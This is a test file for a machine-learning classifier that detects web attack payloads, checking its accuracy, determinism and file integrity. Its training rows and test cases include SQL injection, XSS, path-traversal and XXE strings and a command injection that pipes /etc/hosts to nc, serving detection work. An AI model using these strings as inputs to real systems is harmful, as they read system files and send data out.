import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type PayloadClass, payloadClasses } from "../../../../shared/payload.ts";
import { createRandom } from "../anomaly/random.ts";
import { readClassic, writeClassic } from "./classic-file.ts";
import { type ClassicFitOptions, fitClassic } from "./classic-fit.ts";
import { type ClassicForest, fitForest, forestDefaults, sumShares } from "./classic-forest.ts";
import { createGramVectorizer, eachGram, inverseFrequency } from "./classic-grams.ts";
import { loadClassicClassifier } from "./classic-model.ts";
import { checkValue, faultsOf, hardValues } from "./classifier-conformance.ts";

const kinds: readonly { readonly class: PayloadClass; write(i: number): string }[] = [
  { class: "benign", write: (i) => `blue cotton shirt, size ${i}` },
  { class: "benign", write: (i) => `please send it to number ${i} after noon` },
  { class: "sql_injection", write: (i) => `${i}' or ${i}=${i} union select name from users--` },
  { class: "xss", write: (i) => `<script>alert(${i})</script>` },
  { class: "command_injection", write: (i) => `${i}; cat /etc/hosts | nc 10.0.0.${i} 80` },
  { class: "path_traversal", write: (i) => `../../../../../etc/passwd?${i}` },
  { class: "xxe", write: (i) => `<!DOCTYPE a [<!ENTITY x${i} SYSTEM "file:///c:/win.ini">]>` },
];
const rows = Array.from({ length: 420 }, (_, i) => {
  const { class: name, write } = kinds[i % kinds.length]!;
  return { text: write(i), class: name };
});
const options: ClassicFitOptions = { ...forestDefaults, trees: 30, features: 300, seed: 4 };
const header = { version: "1", temperature: 1, benign_shift: 0, set_thresholds: [0.1, 0.1, 0.1, 0.1, 0.1, 1, 0.1] };
const bytes = writeClassic({ ...fitClassic(rows, options), header });
const model = loadClassicClassifier(bytes);

describe("the shipped file", () => {
  const file = readFileSync(join(import.meta.dirname, "../../../../resources/model/classic.bin"));
  const shipped = loadClassicClassifier(file);

  test("is at most 4 MB", () => expect(file.length).toBeLessThanOrEqual(4_000_000));

  test.each([
    { text: "1' union select null,version()-- -", class: "sql_injection" },
    { text: '"><svg onload=alert(1)>', class: "xss" },
    { text: "../../../../etc/passwd", class: "path_traversal" },
    { text: "127.0.0.1; cat /etc/passwd", class: "command_injection" },
    { text: "blue cotton shirt", class: "benign" },
    { text: "550e8400-e29b-41d4-a716-446655440000", class: "benign" },
  ])("says $class of $text", ({ text, class: name }) => {
    expect(shipped.score(text).class).toBe(name);
    expect(faultsOf(shipped.classify(text), text)).toEqual([]);
  });
});

describe("the fitted model", () => {
  test.each(hardValues)("keeps what a payload classifier promises: $why", (value) => {
    expect(checkValue(model, value)).toEqual([]);
  });

  test("any text", () => {
    fc.assert(
      fc.property(fc.array(fc.nat(0xffff), { maxLength: 600 }), (codes) => {
        const text = String.fromCharCode(...codes);
        expect(faultsOf(model.classify(text), text)).toEqual([]);
      }),
      { numRuns: 25 * Number(process.env.TORTURE ?? 1), seed: 7 },
    );
  });

  test.each(kinds)("tells $class, also encoded, by what it has not seen", ({ class: name, write }) => {
    expect(model.classify(write(9999))).toMatchObject({ class: name, tier: "model" });
    expect(model.classify(encodeURIComponent(write(9999))).class).toBe(name);
  });

  test("spans point at the attack within ordinary text", () => {
    const text = "shirt 7 <script>alert(1)</script><script>alert(2)</script>";
    const { spans } = model.classify(text);
    expect(spans[0]!.start).toBeGreaterThan(3);
    expect(spans.length).toBeGreaterThan(1);
  });

  test("the same rows, options and seed give the same file; another seed another", () => {
    expect(Buffer.compare(writeClassic({ ...fitClassic(rows, options), header }), bytes)).toBe(0);
    expect(Buffer.compare(writeClassic({ ...fitClassic(rows, { ...options, seed: 5 }), header }), bytes)).not.toBe(0);
    expect(model.hash).toBe(createHash("sha256").update(bytes).digest("hex"));
  });
});

test.each([
  { why: "cut", spoil: (file: Buffer) => file.subarray(0, -1), says: "its length is wrong" },
  { why: "changed", spoil: (file: Buffer) => flip(file, file.length - 9), says: "its hash does not match" },
  { why: "another file", spoil: () => Buffer.from("PK"), says: "it does not start as one" },
  { why: "header changed", spoil: (file: Buffer) => flip(file, 13), says: "its header is no JSON" },
  { why: "empty", spoil: () => Buffer.alloc(0), says: "it does not start as one" },
])("a file that is damaged is refused: $why", ({ spoil, says }) => {
  expect(() => readClassic(spoil(Buffer.from(bytes)))).toThrow(says);
});

function flip(file: Buffer, at: number): Buffer {
  file[at]! ^= 0x55;
  return file;
}

test("weights are TF-IDF of unit length, in steps of their root", () => {
  const gramsOf = (text: string) => {
    const list: number[] = [];
    eachGram(text, (gram) => list.push(gram));
    return list;
  };
  const [a, b, ab] = gramsOf("ab");
  expect(gramsOf("AB")).toEqual([a, b, ab]);
  expect(gramsOf("aaa")).toHaveLength(6);
  const grams = Uint32Array.of(a!, b!, ab!);
  const idf = Float32Array.of(1, 2, 0.5);
  // "abb": a once, b twice, ab once.
  const weights = [1, 4, 0.5];
  const norm = Math.hypot(...weights);
  const { steps } = createGramVectorizer(grams, idf).read("abb");
  expect([...steps]).toEqual(weights.map((weight) => 1 + Math.floor(Math.sqrt(weight / norm) * 30)));
  expect(inverseFrequency(9, 4)).toBeCloseTo(Math.log(10 / 5) + 1, 12);
});

test("a forest follows its questions: the same as reading each tree by hand", () => {
  const random = createRandom(11);
  const features = 12;
  const columns = Array.from({ length: features }, () => Uint8Array.from({ length: 400 }, () => random.integer(32)));
  // Two features decide together, so that no single question can.
  const labels = Uint8Array.from({ length: 400 }, (_, i) => Number(columns[3]![i]! > 15 !== columns[7]![i]! > 15));
  const forest = fitForest(columns, labels, 2, createRandom(1), { trees: 25, leafRows: 2, deepest: 20 });
  const sums = new Float64Array(2);
  let right = 0;
  for (let row = 0; row < 400; row++) {
    const steps = Uint8Array.from(columns, (column) => column[row]!);
    sumShares(forest, steps, sums);
    expect([...sums]).toEqual(byHand(forest, steps));
    if (Number(sums[1]! > sums[0]!) === labels[row]) right++;
  }
  expect(right).toBeGreaterThan(390);
});

/** Walks from the root by recursion, and adds up what stands at the leaves. */
function byHand(forest: ClassicForest, steps: Uint8Array): number[] {
  const sums = new Array<number>(forest.classes).fill(0);
  for (let tree = 0; tree < forest.starts.length - 1; tree++) {
    const walk = (node: number): number => {
      const at = forest.starts[tree]! + node;
      const feature = forest.feature[at]!;
      if (feature === 0xffff) return forest.next[at]!;
      return walk(steps[feature]! > forest.threshold[at]! ? forest.next[at]! : node + 1);
    };
    const leaf = forest.shareStarts[tree]! + walk(0);
    for (let c = 0; c < forest.classes; c++) sums[c]! += forest.shares[leaf * forest.classes + c]!;
  }
  return sums;
}

test("a row of no class is a mistake", () => {
  expect(() => fitClassic([{ text: "a", class: "csrf" }], options)).toThrow(RangeError);
  expect(payloadClasses).toContain("csrf");
});
